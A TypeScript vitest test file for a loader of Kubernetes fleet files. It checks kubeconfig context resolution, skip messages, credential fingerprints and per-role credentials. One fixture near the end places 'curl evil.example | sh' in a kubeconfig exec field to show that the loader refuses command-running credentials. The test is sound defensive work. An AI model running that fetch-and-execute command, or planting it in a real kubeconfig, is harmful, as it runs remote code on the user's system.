import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { loadFleetFile } from "./load-fleet-file.js";

/** A kubeconfig with one context per entry, each with its own cluster and token user. */
function renderKubeconfig(
  contexts: Record<string, { server: string; token: string }>,
  current?: string,
): string {
  const names = Object.keys(contexts);
  return JSON.stringify({
    apiVersion: "v1",
    kind: "Config",
    clusters: names.map((name) => ({
      name,
      cluster: { server: contexts[name]?.server, "certificate-authority": "ca.pem" },
    })),
    users: names.map((name) => ({ name, user: { token: contexts[name]?.token } })),
    contexts: names.map((name) => ({ name, context: { cluster: name, user: name } })),
    ...(current === undefined ? {} : { "current-context": current }),
  });
}

describe("loadFleetFile", () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "rrfleet-fleet-"));
    await mkdir(join(dir, "kubeconfigs"));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const writeFleet = (lines: string[]) => writeFile(join(dir, "fleet.yaml"), lines.join("\n"));

  it("connects each cluster on its context, with paths in the kubeconfig made absolute", async () => {
    await writeFile(
      join(dir, "kubeconfigs", "all.yaml"),
      renderKubeconfig({
        eu: { server: "https://eu.example:6443", token: "t-eu" },
        us: { server: "https://us.example:6443", token: "t-us" },
      }),
    );
    await writeFleet([
      "clusters:",
      "  - { name: eu, kubeconfig: kubeconfigs/all.yaml, context: eu }",
      "  - { name: us, kubeconfig: kubeconfigs/all.yaml, context: us }",
    ]);
    const result = await loadFleetFile(join(dir, "fleet.yaml"));
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.problems).toEqual([]);
    expect(result.clusters.map((c) => [c.name, c.target])).toEqual([
      ["eu", { kubeconfigPath: join(dir, "kubeconfigs", "all.yaml"), context: "eu" }],
      ["us", { kubeconfigPath: join(dir, "kubeconfigs", "all.yaml"), context: "us" }],
    ]);
    const us = result.clusters[1]?.connect();
    expect(us?.name).toBe("us");
    expect(us?.kubeConfig.getCurrentCluster()).toMatchObject({
      server: "https://us.example:6443",
      caFile: join(dir, "kubeconfigs", "ca.pem"),
    });
    expect(us?.kubeConfig.getCurrentUser()?.token).toBe("t-us");
  });

  it("reads a kubeconfig once however many clusters use it", async () => {
    await writeFile(
      join(dir, "kubeconfigs", "all.yaml"),
      renderKubeconfig({
        a: { server: "https://a:6443", token: "a" },
        b: { server: "https://b:6443", token: "b" },
      }),
    );
    await writeFleet([
      "clusters:",
      "  - { name: a, kubeconfig: kubeconfigs/all.yaml, context: a }",
      "  - { name: b, kubeconfig: kubeconfigs/all.yaml, context: b }",
    ]);
    const reads: string[] = [];
    const result = await loadFleetFile(join(dir, "fleet.yaml"), async (path) => {
      reads.push(path);
      const { readFile } = await import("node:fs/promises");
      return readFile(path, "utf8");
    });
    expect(result.ok && result.clusters.length).toBe(2);
    expect(reads).toEqual([join(dir, "fleet.yaml"), join(dir, "kubeconfigs", "all.yaml")]);
  });

  const skipCases: {
    name: string;
    kubeconfig?: string;
    entry: string;
    want: string;
  }[] = [
    {
      name: "skips a cluster whose kubeconfig does not exist",
      entry: "{ name: a, kubeconfig: kubeconfigs/missing.yaml }",
      want: `clusters[1].kubeconfig: kubeconfig <dir>/kubeconfigs/missing.yaml: cannot read it: no such file; this cluster is skipped`,
    },
    {
      name: "skips a cluster whose context the kubeconfig lacks, naming the contexts there are",
      kubeconfig: renderKubeconfig({ eu: { server: "https://eu:6443", token: "t" } }),
      entry: "{ name: a, kubeconfig: kubeconfigs/a.yaml, context: us }",
      want: `clusters[1].context: kubeconfig <dir>/kubeconfigs/a.yaml has no context "us" (contexts: eu); this cluster is skipped`,
    },
    {
      name: "skips a cluster without a context when the kubeconfig has no current-context",
      kubeconfig: renderKubeconfig({ eu: { server: "https://eu:6443", token: "t" } }),
      entry: "{ name: a, kubeconfig: kubeconfigs/a.yaml }",
      want: `clusters[1].context: kubeconfig <dir>/kubeconfigs/a.yaml has no current-context; name one with context (contexts: eu); this cluster is skipped`,
    },
    {
      name: "skips a cluster whose kubeconfig's current-context is not among its contexts",
      kubeconfig: renderKubeconfig({ eu: { server: "https://eu:6443", token: "t" } }, "us"),
      entry: "{ name: a, kubeconfig: kubeconfigs/a.yaml }",
      want: `clusters[1].kubeconfig: kubeconfig <dir>/kubeconfigs/a.yaml: its current-context "us" is not among its contexts: eu; this cluster is skipped`,
    },
    {
      name: "skips a cluster whose kubeconfig is not YAML",
      kubeconfig: "{]",
      entry: "{ name: a, kubeconfig: kubeconfigs/a.yaml }",
      want: "clusters[1].kubeconfig: kubeconfig <dir>/kubeconfigs/a.yaml cannot be loaded: missed comma",
    },
    {
      name: "skips a cluster whose kubeconfig has no contexts",
      kubeconfig: "clusters: 42\n",
      entry: "{ name: a, kubeconfig: kubeconfigs/a.yaml }",
      want: "clusters[1].kubeconfig: kubeconfig <dir>/kubeconfigs/a.yaml has no contexts; this cluster is skipped",
    },
  ];

  it.each(skipCases)("$name", async ({ kubeconfig, entry, want }) => {
    if (kubeconfig !== undefined) await writeFile(join(dir, "kubeconfigs", "a.yaml"), kubeconfig);
    await writeFile(
      join(dir, "kubeconfigs", "ok.yaml"),
      renderKubeconfig({ ok: { server: "https://ok:6443", token: "t" } }, "ok"),
    );
    await writeFleet([
      "clusters:",
      "  - { name: ok, kubeconfig: kubeconfigs/ok.yaml }",
      `  - ${entry}`,
    ]);
    const result = await loadFleetFile(join(dir, "fleet.yaml"));
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.clusters.map((c) => c.name)).toEqual(["ok"]);
    const lines = result.problems.map((p) => `${p.path}: ${p.message}`.replaceAll(dir, "<dir>"));
    expect(lines).toHaveLength(1);
    expect(lines[0]?.startsWith(want)).toBe(true);
    expect(result.problems[0]?.cluster).toBe("a");
  });

  it("reports a fleet file that cannot be read as a whole-file problem", async () => {
    const result = await loadFleetFile(join(dir, "absent.yaml"));
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          source: "file",
          origin: join(dir, "absent.yaml"),
          path: "",
          message: "cannot read it: no such file",
        },
      ],
    });
  });

  it("changes a cluster's fingerprint when its own credentials change, and only its own", async () => {
    const kubeconfigPath = join(dir, "kubeconfigs", "all.yaml");
    const contexts = {
      eu: { server: "https://eu:6443", token: "t-eu" },
      us: { server: "https://us:6443", token: "t-us" },
    };
    await writeFleet([
      "clusters:",
      "  - { name: eu, kubeconfig: kubeconfigs/all.yaml, context: eu }",
      "  - { name: us, kubeconfig: kubeconfigs/all.yaml, context: us }",
    ]);
    const fingerprints = async () => {
      const result = await loadFleetFile(join(dir, "fleet.yaml"));
      if (!result.ok) throw new Error(JSON.stringify(result.problems));
      return Object.fromEntries(result.clusters.map((c) => [c.name, c.fingerprint]));
    };
    await writeFile(kubeconfigPath, renderKubeconfig(contexts));
    const before = await fingerprints();
    await writeFile(
      kubeconfigPath,
      renderKubeconfig({ ...contexts, us: { ...contexts.us, token: "rotated" } }),
    );
    const after = await fingerprints();
    expect(after["eu"]).toBe(before["eu"]);
    expect(after["us"]).not.toBe(before["us"]);
  });

  it("connects each role with its own credentials when the entry splits them", async () => {
    await writeFile(
      join(dir, "kubeconfigs", "read.yaml"),
      renderKubeconfig({ prod: { server: "https://prod:6443", token: "read-token" } }, "prod"),
    );
    await writeFile(
      join(dir, "kubeconfigs", "write.yaml"),
      renderKubeconfig({ prod: { server: "https://prod:6443", token: "write-token" } }, "prod"),
    );
    await writeFleet([
      "clusters:",
      "  - name: prod",
      "    credentials:",
      "      watcher: { kubeconfig: kubeconfigs/read.yaml }",
      "      applier: { kubeconfig: kubeconfigs/write.yaml }",
    ]);
    const tokens: Record<string, string | undefined> = {};
    for (const role of ["watcher", "applier"] as const) {
      const result = await loadFleetFile(join(dir, "fleet.yaml"), undefined, { role });
      if (!result.ok) throw new Error(JSON.stringify(result.problems));
      expect(result.problems).toEqual([]);
      expect(result.clusters[0]?.target.kubeconfigPath).toBe(
        join(dir, "kubeconfigs", role === "watcher" ? "read.yaml" : "write.yaml"),
      );
      tokens[role] = result.clusters[0]?.connect().kubeConfig.getCurrentUser()?.token;
    }
    expect(tokens).toEqual({ watcher: "read-token", applier: "write-token" });
  });

  it("refuses a kubeconfig whose user runs a command, naming the cluster and the field, unless allowed", async () => {
    const exec = {
      apiVersion: "client.authentication.k8s.io/v1",
      command: "/bin/sh",
      args: ["-c", "curl evil.example | sh"],
      interactiveMode: "Never",
    };
    await writeFile(
      join(dir, "kubeconfigs", "exec.yaml"),
      JSON.stringify({
        apiVersion: "v1",
        kind: "Config",
        clusters: [{ name: "c", cluster: { server: "https://eks:443" } }],
        users: [{ name: "aws", user: { exec } }],
        contexts: [{ name: "eks", context: { cluster: "c", user: "aws" } }],
        "current-context": "eks",
      }),
    );
    await writeFleet([
      "clusters:",
      "  - { name: ok, kubeconfig: kubeconfigs/ok.yaml }",
      "  - name: eks",
      "    credentials:",
      "      watcher: { kubeconfig: kubeconfigs/exec.yaml }",
      "      applier: { kubeconfig: kubeconfigs/exec.yaml }",
    ]);
    await writeFile(
      join(dir, "kubeconfigs", "ok.yaml"),
      renderKubeconfig({ ok: { server: "https://ok:6443", token: "t" } }, "ok"),
    );
    const refused = await loadFleetFile(join(dir, "fleet.yaml"), undefined, { role: "watcher" });
    if (!refused.ok) throw new Error(JSON.stringify(refused.problems));
    expect(refused.clusters.map((c) => c.name)).toEqual(["ok"]);
    expect(refused.problems).toEqual([
      {
        source: "file",
        origin: join(dir, "fleet.yaml"),
        path: "clusters[1].credentials.watcher.kubeconfig",
        cluster: "eks",
        message: `kubeconfig ${join(dir, "kubeconfigs", "exec.yaml")}: user "aws" of context "eks" runs a command for its credentials (users[].user.exec: /bin/sh), which fleet files may not do unless ALLOW_EXEC_KUBECONFIG=true; this cluster is skipped`,
      },
    ]);
    const allowed = await loadFleetFile(join(dir, "fleet.yaml"), undefined, {
      role: "watcher",
      allowExecCredentials: true,
    });
    if (!allowed.ok) throw new Error(JSON.stringify(allowed.problems));
    expect(allowed.clusters.map((c) => c.name)).toEqual(["ok", "eks"]);
    expect(allowed.problems).toEqual([]);
  });
});
